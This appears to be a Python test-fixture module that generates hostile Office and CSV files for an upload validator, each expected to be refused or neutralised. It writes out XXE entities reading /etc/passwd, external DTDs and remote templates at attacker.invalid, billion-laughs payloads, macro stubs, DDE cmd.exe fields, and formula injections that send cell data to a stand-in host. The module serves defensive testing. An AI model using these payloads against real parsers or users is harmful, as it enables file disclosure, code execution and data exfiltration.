"""Hostile .docx and .xlsx: entities, macros, links out, objects, locks, formulas (S-07, S-08)."""

from collections.abc import Iterator

from tests.kernel.corpus.office import (
    OFFICE,
    SHEET,
    WORD,
    XML,
    Members,
    content_types,
    docx,
    docx_members,
    paragraph,
    relations,
    sheet_row,
    word_part,
    xlsx,
    xlsx_members,
    zipped,
)  # fmt: skip
from tests.kernel.corpus.ole import compound_file
from tests.kernel.corpus.uploads import Outcome, Upload

FAR = "http://attacker.invalid"
TEXT = paragraph("Kính gửi các đơn vị")
LAUGHS = (
    "<!DOCTYPE l [<!ENTITY l0 'ha'>"
    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>"
)
READ_FILE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
READ_NET = f'<!DOCTYPE d SYSTEM "{FAR}/evil.dtd">'
PARAMETER = f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{FAR}/p.dtd"> %p;]>'


def refused(group: str, trait: str, name: str, content: bytes) -> Upload:
    """A file that must be refused."""
    return Upload(trait, group, name, content, Outcome.REFUSED)


def with_type(members: Members, part: str, doctype: str, old: str = "", new: str = "") -> bytes:
    """The package with a document type put before the root of one part."""
    text = members[part]
    assert isinstance(text, str)
    return zipped(members | {part: text.replace(XML, XML + doctype).replace(old, new, 1)})


def entities() -> Iterator[Upload]:
    """Document types in every part a reader opens."""
    word, sheet = docx_members(TEXT), xlsx_members(sheet_row(1, "Họ tên"))
    main = "word/document.xml"
    yield refused("entity", "xxe-file", "a1.docx", with_type(word, main, READ_FILE, "Kính", "&x;"))
    yield refused("entity", "xxe-net", "a2.docx", with_type(word, main, READ_NET))
    yield refused("entity", "xxe-parameter", "a3.docx", with_type(word, main, PARAMETER))
    yield refused("entity", "billion-laughs-docx", "a4.docx", with_type(word, main, LAUGHS, "Kính", "&l9;"))
    yield refused("entity", "xxe-content-types", "a5.docx", with_type(word, "[Content_Types].xml", READ_FILE))
    yield refused("entity", "xxe-relations", "a6.docx", with_type(word, "_rels/.rels", READ_FILE))
    core = f"{XML}{READ_FILE}<cp:coreProperties xmlns:cp='urn:x'>&x;</cp:coreProperties>"
    yield refused("entity", "xxe-core-properties", "a7.docx", zipped(word | {"docProps/core.xml": core}))
    page = "xl/worksheets/sheet1.xml"
    yield refused("entity", "xxe-sheet", "a8.xlsx", with_type(sheet, page, READ_FILE, "Họ", "&x;"))
    yield refused("entity", "billion-laughs-xlsx", "a9.xlsx", with_type(sheet, page, LAUGHS, "Họ", "&l9;"))
    strings = f"{XML}{LAUGHS}<sst xmlns='{SHEET}'><si><t>&l9;</t></si></sst>"
    yield refused(
        "entity", "laughs-shared-strings", "a10.xlsx", zipped(sheet | {"xl/sharedStrings.xml": strings})
    )
    square = f"<!DOCTYPE d [<!ENTITY q '{'q' * 60_000}'>]>"
    yield refused(
        "entity", "quadratic-blow-up", "a11.docx", with_type(word, main, square, "Kính", "&q;" * 60_000)
    )
    wide = word[main]
    assert isinstance(wide, str)
    wide = wide.replace(XML, f'<?xml version="1.0" encoding="UTF-16"?>{READ_FILE}').replace("Kính", "&x;")
    yield refused("entity", "xxe-utf-16", "a12.docx", zipped(word | {main: wide.encode("utf-16")}))
    deep = word_part("<w:sdt><w:sdtContent>" * 60_000 + "</w:sdtContent></w:sdt>" * 60_000)
    yield refused("entity", "120000-levels-of-xml", "a13.docx", zipped(word | {main: deep}))


def macros() -> Iterator[Upload]:
    """Programs inside documents, honestly named or renamed."""
    project = compound_file({"VBA": b"Sub AutoOpen()", "PROJECT": b'ID="{0}"\r\nModule=Evil'})
    macro_word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    macro_sheet = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    word, sheet = docx_members(TEXT, mime=macro_word), xlsx_members(mime=macro_sheet)
    yield refused("macro", "docm", "mau bao cao.docm", zipped(word | {"word/vbaProject.bin": project}))
    yield refused(
        "macro", "docm-renamed", "mau bao cao.docx", zipped(word | {"word/vbaProject.bin": project})
    )
    yield refused("macro", "xlsm", "mau cham cong.xlsm", zipped(sheet | {"xl/vbaProject.bin": project}))
    yield refused(
        "macro", "xlsm-renamed", "mau cham cong.xlsx", zipped(sheet | {"xl/vbaProject.bin": project})
    )
    plain = docx_members(TEXT) | {"word/vbaProject.bin": project}
    yield refused("macro", "vba-behind-plain-types", "sach.docx", zipped(plain))
    odd = docx_members(TEXT) | {
        "word/theme/theme9.bin": project,
        "word/_rels/document.xml.rels": relations(("rId9", "x/vbaProject", "theme/theme9.bin", False)),
    }
    yield refused("macro", "vba-under-another-name", "doi ten.docx", zipped(odd))
    old = xlsx_members() | {
        "xl/macrosheets/sheet1.xml": f"{XML}<xm:macrosheet xmlns:xm='urn:x'>"
        '<c><f>EXEC("calc")</f></c></xm:macrosheet>'
    }
    yield refused("macro", "excel-4-macro-sheet", "macro 4.xlsx", zipped(old))
    control = docx_members(TEXT) | {
        "word/activeX/activeX1.bin": project,
        "word/activeX/activeX1.xml": f"{XML}<x/>",
    }
    yield refused("macro", "activex-control", "dieu khien.docx", zipped(control))
    template = docx_members(TEXT, mime="application/vnd.ms-word.template.macroEnabledTemplate.main+xml")
    yield refused("macro", "dotm-renamed", "mau.docx", zipped(template | {"word/vbaProject.bin": project}))
    legacy = compound_file({"WordDocument": b"\xec\xa5", "Macros": b"VBA", "_VBA_PROJECT": b"\xcc\x61"})
    yield refused("macro", "old-doc-with-macros", "cong van cu.doc", legacy)
    yield refused(
        "macro",
        "old-xls-with-macros",
        "bang cu.xls",
        compound_file({"Workbook": b"\x09\x08", "_VBA_PROJECT_CUR": b"x"}),
    )


def links() -> Iterator[Upload]:
    """Relations and fields that fetch or start something outside."""
    rels = "word/_rels/document.xml.rels"
    for trait, kind, target in (
        ("remote-template", "attachedTemplate", f"{FAR}/evil.dotm"),
        ("template-on-a-share", "attachedTemplate", "file://///attacker.invalid/share/evil.dotm"),
        ("remote-ole-object", "oleObject", f"{FAR}/evil.rtf!x-usc:ms-msdt:/id"),
        ("remote-frame", "frame", f"{FAR}/frame.html"),
        ("remote-sub-document", "subDocument", f"{FAR}/part.docx"),
        ("remote-mhtml", "oleObject", f"mhtml:{FAR}/side.html!{FAR}/side.html"),
    ):
        members = docx_members(TEXT) | {rels: relations(("rId7", kind, target, True))}
        if kind == "attachedTemplate":
            members |= {
                "word/settings.xml": f'{XML}<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}/relationships">'
                '<w:attachedTemplate r:id="rId7"/></w:settings>',
                "word/_rels/settings.xml.rels": relations(("rId7", kind, target, True)),
            }
        yield refused("link", trait, f"{trait}.docx", zipped(members))
    beacon = docx_members(TEXT) | {rels: relations(("rId7", "image", f"{FAR}/pixel.png", True))}
    yield Upload("remote-image", "link", "anh tu xa.docx", zipped(beacon), Outcome.NEUTRALISED)
    words = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    field = f"<w:p><w:r><w:instrText> {words} </w:instrText></w:r></w:p>"
    yield refused("link", "dde-field", "truong dde.docx", zipped(docx_members(TEXT + field)))
    cut = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" DD", "EAU", 'TO excel "x" ')
    )
    yield refused(
        "link", "dde-field-in-pieces", "truong cat.docx", zipped(docx_members(f"{TEXT}<w:p>{cut}</w:p>"))
    )
    dde = f'{XML}<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield refused(
        "link",
        "dde-link",
        "lien ket dde.xlsx",
        zipped(xlsx_members() | {"xl/externalLinks/externalLink1.xml": dde}),
    )
    query = (
        f'{XML}<connections xmlns="{SHEET}"><connection id="1" type="4" name="w" refreshOnLoad="1">'
        f'<webPr url="{FAR}/q.iqy"/></connection></connections>'
    )
    yield refused(
        "link", "web-query-on-open", "truy van.xlsx", zipped(xlsx_members() | {"xl/connections.xml": query})
    )
    chunk = docx_members(TEXT + '<w:altChunk r:id="rId8" />') | {
        rels: relations(("rId8", "aFChunk", "a.html", False)),
        "word/a.html": "<html><script>alert(1)</script></html>",
    }
    yield refused("link", "html-chunk-with-script", "ghep html.docx", zipped(chunk))


def objects() -> Iterator[Upload]:
    """Objects packed into the document, and locks."""
    package = compound_file({"\x01Ole10Native": b"evil.exe\x00C:\\evil.exe\x00MZ" + bytes(64)})
    rels = "word/_rels/document.xml.rels"
    inside = {rels: relations(("rId5", "oleObject", "embeddings/oleObject1.bin", False))}
    yield refused(
        "macro",
        "packed-program",
        "dinh kem.docx",
        zipped(docx_members(TEXT) | inside | {"word/embeddings/oleObject1.bin": package}),
    )
    yield refused(
        "macro",
        "packed-program-sheet",
        "dinh kem.xlsx",
        zipped(xlsx_members() | {"xl/embeddings/oleObject1.bin": package}),
    )
    yield refused(
        "macro",
        "program-as-media",
        "anh la.docx",
        docx("Ảnh", extra={"word/media/image1.exe": b"MZ" + bytes(500)}),
    )
    lock = compound_file(
        {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>", "EncryptedPackage": bytes(6000)}
    )
    yield refused("password", "locked-docx", "co mat khau.docx", lock)
    yield refused("password", "locked-xlsx", "co mat khau.xlsx", lock)
    yield refused("password", "locked-xlsx-named-xls", "co mat khau.xls", lock)


def formulas() -> Iterator[Upload]:
    """Cells that would calculate in the program of whoever opens an export."""
    for trait, formula in {
        "dde-formula-cell": "=cmd|'/c calc'!A0",
        "web-service-cell": f'=WEBSERVICE("{FAR}/"&A1)',
        "hyperlink-cell": f'=HYPERLINK("{FAR}/?d="&A2,"Bấm vào đây")',
    }.items():
        rows = [("Họ và tên", "Điện thoại"), ("Trần Thị Ví Dụ", formula)]
        yield Upload(trait, "formula", f"{trait}.xlsx", xlsx(*rows), Outcome.NEUTRALISED)
        text = "\n".join(";".join(row) for row in rows).encode()
        yield Upload(f"{trait}-csv", "formula", f"{trait}.csv", text, Outcome.NEUTRALISED)
    far = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield Upload(
        "sheet-of-17-billion-cells", "size", "trang rong.xlsx", zipped(xlsx_members(far)), Outcome.NEUTRALISED
    )


def offices() -> Iterator[Upload]:
    """All hostile office parts."""
    for family in (entities, macros, links, objects, formulas):
        yield from family()
    other = xlsx_members() | {
        "[Content_Types].xml": content_types(
            {"xl/workbook.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}
        )
    }
    yield refused("macro", "binary-macro-type", "nhi phan.xlsx", zipped(other))
